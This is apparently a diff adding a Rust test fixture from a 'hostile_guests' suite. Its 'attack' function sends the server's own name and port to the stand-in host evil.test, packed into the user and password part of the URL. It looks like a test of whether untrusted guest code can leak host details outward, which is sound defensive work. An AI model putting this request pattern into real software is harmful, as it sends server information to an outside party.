@@ -1,0 +1,9 @@
+//! Asks another host, with the server's name and port as user and password.
+
+use hostile_guests::{Request, attack, authority};
+
+attack!(run);
+
+fn run(_: String) -> String {
+    Request::get().to(format!("{}@evil.test", authority())).outcome()
+}
